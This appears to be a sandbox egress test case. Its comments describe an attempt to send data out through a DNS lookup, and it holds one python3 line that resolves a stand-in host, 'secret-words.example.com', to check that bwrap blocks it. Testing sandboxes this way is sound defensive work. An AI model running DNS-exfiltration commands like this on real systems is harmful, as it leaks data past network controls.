# tries: send words out in the name of a host
# stopped: no name server is reached
# control: no
# bare bwrap stops it: yes
python3 -c "import socket; socket.setdefaulttimeout(2); socket.getaddrinfo(\"secret-words.example.com\", 80)"
